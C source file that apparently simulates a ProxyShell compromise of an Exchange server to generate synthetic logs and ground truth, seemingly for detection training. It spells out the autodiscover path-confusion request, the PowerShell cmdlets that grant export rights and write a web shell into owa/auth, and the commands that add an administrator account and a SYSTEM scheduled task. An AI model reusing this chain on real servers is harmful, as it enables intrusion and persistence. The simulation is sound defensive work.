/* The chain of August 2021 (CVE-2021-34473, -34523 and -31207): autodiscover is talked into leading
 * to other services, PowerShell among them; there the right to export mailboxes is granted, and a
 * mailbox with a prepared draft in it is exported to a page. */
#include "events.h"
#include "intruder.h"
#include "noise.h"
#include "pages.h"
#include "scenario.h"

#define PAGE      "qmrfyz.aspx"
#define AUTH      "Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\"
#define EXPORT_TO "\\\\127.0.0.1\\C$\\" AUTH PAGE
#define TRICK     "@ex.example.org"
#define EMAIL     "&Email=autodiscover/autodiscover.json%3F" TRICK
#define ADMIN     "corp.example.com/Users/Administrator"
#define ADMIN_SID DOMAIN_SID "-500"
#define MAILBOXES EXCHANGE "Bin\\MSExchangeMailboxReplication.exe"
#define TEMPORARY                                                             \
    "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET " \
    "Files\\owa\\8e05b027\\e164d61b\\"

enum { MAILBOXES_PID = 6204 };

static const struct intruder script = {"203.0.113.52", SCRIPT_225};
static const struct intruder by_hand = {"203.0.113.52",
                                        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:91.0) "
                                        "Gecko/20100101 Firefox/91.0"};

/* ---- the way in */

/* `path` is the service behind that autodiscover leads to; `back` is what that one is asked. */
static void lead_to(struct scene *s, usec t, enum text_log proxy, const char *path,
                    const char *back, const char *back_query, unsigned status)
{
    intruder_asks(s, &script,
                  (struct request){.time = t,
                                   .proxy = proxy,
                                   .method = status == 302 ? "GET" : "POST",
                                   .stem = "/autodiscover/autodiscover.json",
                                   .query = arena_printf(s->arena, "%s%s%s", TRICK, path, EMAIL).p,
                                   .status = status,
                                   .back_stem = back,
                                   .back_query = back_query,
                                   .back_user = "CORP\\" SERVER "$",
                                   .bytes_in = chance_from(&s->chance, 700, 2600),
                                   .bytes_out = chance_from(&s->chance, 900, 5200),
                                   .took = chance_from(&s->chance, 60, 900)});
}

static void knock(struct scene *s, usec t)
{
    lead_to(s, t, LOG_PROXY_AUTODISCOVER, "/owa/?", NULL, NULL, 302);
}

static void find_mailbox(struct scene *s, usec t)
{
    lead_to(s, t, LOG_PROXY_AUTODISCOVER, "/autodiscover/autodiscover.xml?",
            "/autodiscover/autodiscover.xml", NULL, 200);
    lead_to(s, t + 900000, LOG_PROXY_AUTODISCOVER, "/mapi/emsmdb/?", "/mapi/emsmdb/", NULL, 200);
}

/* The page waits in an attachment, written so that an export turns it into itself. */
static void save_draft(struct scene *s, usec t)
{
    const struct request r = {.time = t,
                              .user = "NT AUTHORITY\\SYSTEM",
                              .agent = script.agent,
                              .address = script.address,
                              .status = 200};
    web_service(s, &r, "CreateItem");
    lead_to(s, t, LOG_PROXY_AUTODISCOVER, "/EWS/exchange.asmx?", "/EWS/exchange.asmx", NULL, 200);
}

/* Through the same door mail is read, item by item. */
static void read_mail(struct scene *s, usec t)
{
    static const char *const actions[] = {"FindItem", "GetItem", "GetItem", "GetAttachment"};
    for (size_t i = 0; i < ARRAY_LEN(actions); i++) {
        usec at = t + (int64_t)i * 700000;
        const struct request r = {.time = at,
                                  .user = "NT AUTHORITY\\SYSTEM",
                                  .agent = script.agent,
                                  .address = script.address,
                                  .status = 200};
        web_service(s, &r, actions[i]);
        lead_to(s, at, LOG_PROXY_AUTODISCOVER, "/EWS/exchange.asmx?", "/EWS/exchange.asmx", NULL,
                200);
    }
}

static void ask_powershell(struct scene *s, usec t)
{
    static const char token[] = "X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBFBZG1pbmlzdHJhdG9y";
    lead_to(s, t, LOG_PROXY_AUTODISCOVER, arena_printf(s->arena, "/powershell/?%s", token).p,
            "/powershell", arena_printf(s->arena, "%s%s", token, EMAIL).p, 200);
}

static void open_powershell(struct scene *s, usec t)
{
    for (int i = 0; i < 4; i++) {
        ask_powershell(s, t + i * 300000);
    }
}

/* ---- the page */

static void grant_role(struct scene *s, usec t)
{
    ask_powershell(s, t);
    event_cmdlet(s, t + 80000, "New-ManagementRoleAssignment",
                 "-Role \"Mailbox Import Export\" -User \"" ADMIN "\"", ADMIN, ADMIN_SID);
}

static void export_to_page(struct scene *s, usec t)
{
    ask_powershell(s, t);
    event_cmdlet(s, t + 90000, "New-MailboxExportRequest",
                 "-Mailbox \"h.tanaka@example.com\" -IncludeFolders \"#Drafts#\" -ContentFilter "
                 "\"(Subject -eq 'qmrfyz')\" -ExcludeDumpster \"True\" -FilePath \"" EXPORT_TO "\"",
                 ADMIN, ADMIN_SID);
    event_share(s, t + 6000000, &(struct share){.name = "\\\\*\\C$", .access = 0x1});
    event_share(s, t + 6001000,
                &(struct share){.name = "\\\\*\\C$", .file = AUTH PAGE, .access = 0x12019f});
    event_file(s, t + 6002000, MAILBOXES_PID, MAILBOXES, "C:\\" AUTH PAGE);
    truth_name(s->truth, TRUTH_SHELL, PAGE);
}

static void remove_request(struct scene *s, usec t)
{
    ask_powershell(s, t);
    event_cmdlet(s, t + 70000, "Remove-MailboxExportRequest",
                 "-Identity \"corp.example.com/Users/h.tanaka\\MailboxExport\" -Confirm \"False\"",
                 ADMIN, ADMIN_SID);
}

/* ---- what it is used for */

static void call_page(struct scene *s, usec t)
{
    intruder_posts(s, t, &by_hand, LOG_PROXY_OWA, "/owa/auth/" PAGE, 420);
}

static void first_call(struct scene *s, usec t)
{
    call_page(s, t);
    event_file(s, t + 2000000, worker_owa.pid, worker_owa.image, TEMPORARY "App_Web_fx2q0vza.dll");
    event_file(s, t + 2100000, worker_owa.pid, worker_owa.image,
               TEMPORARY PAGE ".bbdc4ba5.compiled");
    (void)worker_runs(s, t + 3000000, &worker_owa, "cmd.exe /c whoami", SYSTEM32 "whoami.exe",
                      "whoami");
}

static void make_account(struct scene *s, usec t)
{
    call_page(s, t);
    (void)worker_runs(s, t + 40000, &worker_owa,
                      "cmd.exe /c net user exch_support Summer-2021 /add", SYSTEM32 "net.exe",
                      "net  user exch_support Summer-2021 /add");
    (void)worker_runs(s, t + 1900000, &worker_owa,
                      "cmd.exe /c net localgroup Administrators exch_support /add",
                      SYSTEM32 "net.exe", "net  localgroup Administrators exch_support /add");
    event_account_made(s, t + 150000, "exch_support",
                       "S-1-5-21-2203413018-2171342220-1210447114-1007");
    truth_name(s->truth, TRUTH_ACCOUNT, "exch_support");
}

static void make_task(struct scene *s, usec t)
{
    static const char command[] = "schtasks  /create /tn ExchangeHealthSync /sc hourly /ru SYSTEM "
                                  "/tr C:\\Windows\\Temp\\hs.bat";
    call_page(s, t);
    (void)worker_runs(
        s, t + 40000, &worker_owa,
        "cmd.exe /c schtasks /create /tn ExchangeHealthSync /sc hourly /ru SYSTEM /tr "
        "C:\\Windows\\Temp\\hs.bat",
        SYSTEM32 "schtasks.exe", command);
    event_task_made(s, t + 160000, "\\ExchangeHealthSync", "C:\\Windows\\Temp\\hs.bat");
}

static const struct act acts[] = {
    {0,                knock,           "probe"  },
    {AT(2),            find_mailbox,    "entry"  },
    {AT(5),            save_draft,      "write"  },
    {AT(8),            open_powershell, NULL     },
    {AT(11),           grant_role,      NULL     },
    {AT(14),           export_to_page,  NULL     },
    {AT(32),           first_call,      "execute"},
    {AT(58),           remove_request,  "hide"   },
    {AT(4 * 60),       read_mail,       NULL     },
    {AT(18 * 60 + 20), make_account,    "persist"},
    {AT(26 * 60 + 45), make_task,       "persist"},
};

enum { ACT_EXPORT = 5, ACT_FIRST_CALL = 6 };

static bool files(struct scene *s)
{
    usec begins = scenario_begins(s, &scenario_proxyshell);
    return pages_shipped(s) &&
           pages_exported(
               s, "Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/" PAGE,
               PAGE, begins + acts[ACT_EXPORT].after * 1000 + 6002000,
               begins + acts[ACT_FIRST_CALL].after * 1000 + 2100000);
}

const struct scenario scenario_proxyshell = {
    .name = "proxyshell",
    ON_EXCHANGE,
    .end = IN_AUGUST,
    .files = files,
    .hour = noise_hour,
    ACTS(acts),
    .before_end = 10 * ACT_HOUR - 11 * ACT_MINUTE,
    .state = "compromised",
    .rung = 6,
};
